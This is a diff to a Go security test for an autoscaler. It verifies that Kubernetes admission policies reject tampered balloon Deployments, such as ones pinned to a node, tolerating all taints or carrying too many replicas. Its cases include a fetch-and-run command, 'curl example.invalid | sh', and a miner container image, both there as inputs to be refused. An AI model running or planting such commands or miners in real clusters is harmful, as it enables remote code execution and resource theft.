@@ -305,8 +305,10 @@ func balloonSpec(group string) balloon.GroupSpec {
 // The balloon Deployments of the autoscaler's ServiceAccount: the one the
 // balloon controller builds is created and updated; another image, a
 // command, a volume, a token, another PriorityClass, limits above requests,
-// more GPUs than admissionPolicies.balloonMaxResources or an init container
-// are refused, on create and on update.
+// more GPUs than admissionPolicies.balloonMaxResources, an init container,
+// a nodeName, a toleration of every taint or of the preflight taint, or
+// more than balloonMaxReplicas replicas are refused, on create and on
+// update.
 func TestSecurityBalloonDeploymentPinned(t *testing.T) {
 	t.Parallel()
 	ps := newPoliciesScenario(t, "e2e-sec-balloon")
@@ -314,6 +316,7 @@ func TestSecurityBalloonDeploymentPinned(t *testing.T) {
 	ctx := ps.ctx
 	deps := ps.as.AppsV1().Deployments(ps.balloonNS)
 	const prefix = "vmss-autoscaler may write only balloon Deployments as its controller builds them: "
+	const placement = prefix + "scheduled, never pinned to a node (no nodeName), and no toleration of every taint or of the vmss-autoscaler.io/preflight taint (a node still in preflight)"
 	miner := func(d *appsv1.Deployment) { d.Spec.Template.Spec.Containers[0].Image = "example.invalid/miner:latest" }
 	ps.eventually("the balloon Deployment policy in force", 30*time.Second, func() (bool, string) {
 		d := ps.opts.Deployment(balloonSpec("probe"))
@@ -371,6 +374,14 @@ func TestSecurityBalloonDeploymentPinned(t *testing.T) {
 		{"a second container", func(d *appsv1.Deployment) {
 			d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, apiv1.Container{Name: "miner", Image: "example.invalid/miner"})
 		}, "not pause (registry.k8s.io/pause:3.10), miner (example.invalid/miner)"},
+		{"pinned to a node", func(d *appsv1.Deployment) { d.Spec.Template.Spec.NodeName = "gpu-0" }, placement},
+		{"a toleration of every taint", func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.Tolerations = append(d.Spec.Template.Spec.Tolerations, apiv1.Toleration{Operator: apiv1.TolerationOpExists})
+		}, placement},
+		{"a toleration of the preflight taint", func(d *appsv1.Deployment) {
+			d.Spec.Template.Spec.Tolerations = append(d.Spec.Template.Spec.Tolerations, apiv1.Toleration{Key: preflight.DefaultTaintKey, Operator: apiv1.TolerationOpExists})
+		}, placement},
+		{"101 balloons", func(d *appsv1.Deployment) { d.Spec.Replicas = new(int32(101)) }, prefix + "at most admissionPolicies.balloonMaxReplicas (100) balloons, not 101"},
 		{"a command", func(d *appsv1.Deployment) {
 			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl example.invalid | sh"}
 		}, prefix + "the container runs its image's own entrypoint, with no command, arguments, environment, volume mounts, probes or lifecycle hooks"},
